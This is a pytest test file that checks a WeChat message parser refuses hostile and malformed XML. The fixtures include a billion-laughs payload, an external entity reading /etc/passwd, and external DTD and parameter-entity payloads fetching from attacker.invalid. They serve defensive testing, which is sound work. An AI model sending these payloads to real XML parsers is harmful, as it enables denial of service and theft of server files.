"""Hostile and malformed payloads are refused with a reason, never processed (S1, S20).

Whatever reaches the WeChat endpoint from the internet is parsed here, so
XML tricks that make parsers expand, fetch or recurse must be refused, and
the reason must be one the SDK can store with the quarantined payload.
"""

from __future__ import annotations

import pytest
from greenchannel_sdk.errors import ValidationError

from greenchannel_wechat import DEFAULT_MAX_BYTES, WeChatChannel
from wechat_requests import NOW, TOKEN, FixedClock, message_xml, plain_query

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE xml [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<xml><MsgType>text</MsgType><Content>&lol9;</Content></xml>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xml><MsgType>text</MsgType><Content>&secret;</Content></xml>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE xml SYSTEM "http://attacker.invalid/evil.dtd">
<xml><MsgType>text</MsgType></xml>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE xml [<!ENTITY % remote SYSTEM "http://attacker.invalid/x">%remote;]>
<xml/>"""


@pytest.mark.parametrize("payload", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD,
                                     PARAMETER_ENTITY],
                         ids=["billion-laughs", "external-entity", "external-dtd",
                              "parameter-entity"])
def test_dtds_and_entities_are_refused(plain_channel: WeChatChannel, payload: bytes) -> None:
    with pytest.raises(ValidationError, match="DTD or entities"):
        plain_channel.parse(payload, plain_query())


def test_oversize_payload_is_refused_before_parsing(clock: FixedClock) -> None:
    channel = WeChatChannel(TOKEN, "wx1", clock=clock, max_bytes=1024)
    body = message_xml(Content="长" * 400)  # 1200 bytes of UTF-8 text alone
    with pytest.raises(ValidationError) as caught:
        channel.parse(body, plain_query())
    assert "limit 1024" in caught.value.problems["payload"]


def test_default_size_limit_admits_a_long_real_message(plain_channel: WeChatChannel) -> None:
    """WeChat text messages stay far below the default; a long one still gets in."""
    text = "我" * 2048
    assert len(message_xml(Content=text)) < DEFAULT_MAX_BYTES
    draft, = plain_channel.parse(message_xml(Content=text), plain_query())
    assert draft.text == text


@pytest.mark.parametrize("payload", [b"", b"not xml", b"<xml>", b"<xml><a></b></xml>",
                                     b"\xff\xfe<\x00x\x00",
                                     b"<?xml version='1.0' encoding='klingon'?><xml/>",
                                     b"<?xml version='1.0' encoding='utf-7'?><xml/>",
                                     b"<?xml version='1.0' encoding='gb18030'?><xml/>"])
def test_malformed_xml_is_a_validation_error(plain_channel: WeChatChannel,
                                             payload: bytes) -> None:
    with pytest.raises(ValidationError):
        plain_channel.parse(payload, plain_query())


def test_document_with_another_root_is_refused(plain_channel: WeChatChannel) -> None:
    with pytest.raises(ValidationError, match="not an <xml> document"):
        plain_channel.parse(b"<message><MsgType>text</MsgType></message>", plain_query())


def test_repeated_field_is_refused_not_guessed(plain_channel: WeChatChannel) -> None:
    body = message_xml(Content="first").replace(b"</xml>",
                                                b"<Content>second</Content></xml>")
    with pytest.raises(ValidationError) as caught:
        plain_channel.parse(body, plain_query())
    assert caught.value.problems == {"Content": "given more than once"}


def test_deep_nesting_within_the_size_limit_is_handled(plain_channel: WeChatChannel) -> None:
    depth = 5000
    body = b"<xml>" + b"<a>" * depth + b"</a>" * depth + b"</xml>"
    with pytest.raises(ValidationError, match="lacks a required field"):
        plain_channel.parse(body, {k: v for k, v in plain_query().items() if k != "openid"})


def test_error_messages_do_not_echo_the_customer_text(plain_channel: WeChatChannel) -> None:
    """S20: a rejection reason is stored and logged; it must not carry what the customer wrote."""
    secret = "身份证号110101199003077777"
    body = message_xml("location", Label=secret, Content=secret)
    with pytest.raises(ValidationError) as caught:
        plain_channel.parse(body, plain_query())
    assert secret not in str(caught.value)


def test_clock_is_only_used_for_freshness(plain_channel: WeChatChannel) -> None:
    """received_at is WeChat's CreateTime, not the moment of parsing."""
    old_message = message_xml(Content="hi", create_time=str(int(NOW.timestamp()) - 86400))
    draft, = plain_channel.parse(old_message, plain_query())
    assert (NOW - draft.received_at).days == 1
